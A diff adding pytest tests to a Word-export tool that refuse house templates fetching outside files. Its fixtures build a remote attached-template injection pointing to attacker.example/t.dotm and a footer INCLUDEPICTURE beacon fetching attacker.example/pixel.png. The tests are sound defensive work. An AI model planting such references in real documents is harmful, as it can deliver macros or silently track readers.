@@ -174,6 +174,74 @@ def test_word_template_param_must_be_a_docx_in_the_project_folders(tmp_path):
         assert "params/mini/maroc.yaml" in squash(text) and "key 'word_template'" in text
 
 
+def _template_with(tmp_path, name: str, edit) -> Path:
+    """The shipped reference document with its parts edited: edit(parts) changes the dict {part name: bytes}."""
+    house = docx.Document(str(REFERENCE))
+    house.sections[0].footer.paragraphs[0].text = "ILO"
+    plain = tmp_path / "plain.docx"
+    house.save(str(plain))
+    with zipfile.ZipFile(plain) as archive:
+        parts = {item: archive.read(item) for item in archive.namelist()}
+    edit(parts)
+    path = tmp_path / name
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for item, content in parts.items():
+            archive.writestr(item, content)
+    return path
+
+
+def _attached_remote_template(parts) -> None:
+    relations = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+    parts["word/settings.xml"] = re.sub(rb"(<w:settings[^>]*>)", rb"\1<w:attachedTemplate " + relations.encode()
+                                        + rb' r:id="rIdT"/>', parts["word/settings.xml"], count=1)
+    parts["word/_rels/settings.xml.rels"] = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats'
+        b'.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/'
+        b'officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
+        b'TargetMode="External"/></Relationships>')
+
+
+def _footer_picture_field(parts) -> None:
+    footer = next(name for name in parts if re.fullmatch(r"word/footer\d+\.xml", name))
+    parts[footer] = parts[footer].replace(b"<w:t>ILO</w:t>", b'<w:t>ILO</w:t></w:r><w:r><w:fldChar w:fldCharType='
+                                          b'"begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE '
+                                          b'"http://attacker.example/pixel.png" \\d </w:instrText></w:r><w:r>'
+                                          b'<w:fldChar w:fldCharType="end"/>', 1)
+
+
+@pytest.mark.parametrize("edit, address", [(_attached_remote_template, "http://attacker.example/t.dotm"),
+                                           (_footer_picture_field, "http://attacker.example/pixel.png")])
+def test_a_template_that_fetches_a_file_from_outside_is_refused(tmp_path, edit, address):
+    """Before: a house template attaching a remote template (Word fetches http://…/t.dotm on opening: « remote
+    template injection », which can bring macros) or whose footer holds an INCLUDEPICTURE of an address passed into
+    every annex .docx as it was: each reader's Word fetched it. Now refused by make check and by the export."""
+    template = _template_with(tmp_path, "house.docx", edit)
+    with pytest.raises(word.WordFailed, match="refers to a file outside it"):
+        word.docx(page("fr"), "fr", TITLE, "x", template=template, when=WHEN)
+    mini = Mini.copy_to(tmp_path)
+    (mini.params_dir / "mini" / "house.docx").write_bytes(template.read_bytes())
+    mini.set_param("word_template", "params/mini/house.docx")
+    with pytest.raises(ValidationFailed) as failed:
+        load_annex_params("mini", "maroc", mini.params_dir)
+    [problem] = failed.value.problems
+    assert problem.rule == "word_template" and address in problem.message and "no attached template" in problem.hint
+
+
+def test_a_template_with_a_hyperlink_is_not_refused(tmp_path):
+    """A web address in a template's footer (a hyperlink) opens nothing by itself: the template is used."""
+    def hyperlink(parts) -> None:
+        footer = next(name for name in parts if re.fullmatch(r"word/footer\d+\.xml", name))
+        rels = footer.replace("word/", "word/_rels/") + ".rels"
+        parts[rels] = (parts.get(rels) or b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
+                       b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+                       ).replace(b"</Relationships>", b'<Relationship Id="rIdH" Type="http://schemas.openxmlformats.'
+                                 b'org/officeDocument/2006/relationships/hyperlink" Target="https://www.ilo.org" '
+                                 b'TargetMode="External"/></Relationships>')
+    out = docx.Document(io.BytesIO(word.docx(page("en"), "en", TITLE, "x", when=WHEN,
+                                             template=_template_with(tmp_path, "house.docx", hyperlink))))
+    assert [p.text for p in out.sections[0].footer.paragraphs] == ["ILO"]
+
+
 def test_a_table_too_wide_for_its_words_is_set_smaller_and_no_column_is_narrower_than_its_longest_word():
     """Nine columns of an IPTT at 8.5 pt did not fit the page side by side: every column was squeezed below its
     longest word, and LibreOffice broke « Indicateur » into « Indicateu / r ». The table is now set in smaller type
